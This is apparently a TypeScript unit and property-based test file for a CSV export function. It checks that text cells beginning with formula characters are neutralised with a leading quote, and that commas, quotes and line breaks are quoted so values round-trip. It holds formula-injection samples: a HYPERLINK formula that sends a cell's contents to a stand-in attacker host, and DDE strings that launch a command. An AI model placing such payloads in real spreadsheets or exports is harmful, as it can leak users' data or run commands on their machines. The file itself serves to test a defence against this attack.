import fc from 'fast-check';
import { csvCell, csvText, toCsv, type CsvCell } from '../../src/core/csv';
import { readCsv } from '../support/csv.mjs';

/** What a neutralised cell says once the spreadsheet has dropped the leading quote that marks it as text. */
const shown = (cell: string) => cell.replace(/^'(?=[=+\-@\t\r])/, '');

const payloads = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];

describe('CSV cells', () => {
  it.each(payloads)('a text cell that a spreadsheet would read as a formula is neutralised: %j', (payload) => {
    const [[cell]] = readCsv(toCsv([[payload]])) as [[string]];
    expect(cell).toBe(`'${payload}`);
    expect(shown(cell)).toBe(payload);
  });

  it('leaves ordinary text alone, and only quotes what needs quoting', () => {
    expect(csvText('Send SMS')).toBe('Send SMS');
    expect(csvText('a=b')).toBe('a=b');
    expect(csvText(' =1+1')).toBe(' =1+1');
    expect(csvText('Say "hi", then wait')).toBe('"Say ""hi"", then wait"');
    expect(csvText('a;b')).toBe('"a;b"');
    expect(csvText('=1,2')).toBe(`"'=1,2"`);
    expect(csvText('-"x"')).toBe(`"'-""x"""`);
    expect(csvText('')).toBe('');
  });

  it('writes numbers as numbers, negative ones included, and never neutralises them', () => {
    expect([-5, -0.25, 0, 3, 1e21, -1e-7].map(csvCell)).toEqual(['-5', '-0.25', '0', '3', '1e+21', '-1e-7']);
    expect(toCsv([['a', 'b'], [-1, 2.5]])).toBe('a,b\r\n-1,2.5\r\n');
    // A number that is not finite has no CSV spelling: empty, as JSON writes null.
    expect([Number.NaN, Number.POSITIVE_INFINITY, Number.NEGATIVE_INFINITY].map(csvCell)).toEqual(['', '', '']);
    // The same text as a string is a text cell, and gets the quote.
    expect(csvCell('-5')).toBe("'-5");
  });

  it('ends every row with CRLF', () => {
    expect(toCsv([['a'], ['b']])).toBe('a\r\nb\r\n');
  });

  it('round-trips any text and numbers: commas, quotes and line breaks are quoted, formulas come back as text', () => {
    const cell: fc.Arbitrary<CsvCell> = fc.oneof(
      fc.string({ unit: fc.constantFrom('a', ',', '"', '\r', '\n', '\t', ';', '=', '+', '-', '@', ' ', "'", '中'), maxLength: 12 }),
      fc.string({ unit: 'grapheme', maxLength: 8 }),
      fc.double({ noNaN: true, noDefaultInfinity: true }),
      fc.integer(),
    );
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 5 }), (rows) => {
        const read = readCsv(toCsv(rows));
        expect(read).toHaveLength(rows.length);
        read.forEach((record, row) => {
          expect(record).toHaveLength(rows[row]!.length);
          record.forEach((text, column) => {
            const written = rows[row]![column]!;
            if (typeof written === 'number') expect(Number(text)).toBe(written === 0 ? 0 : written);
            else {
              expect(text).toBe(/^[=+\-@\t\r]/.test(written) ? `'${written}` : written);
              // What reaches the spreadsheet never starts a formula.
              expect(text).not.toMatch(/^[=+\-@\t\r]/);
            }
          });
        });
      }),
      { seed: 12, numRuns: 300 },
    );
  });
});
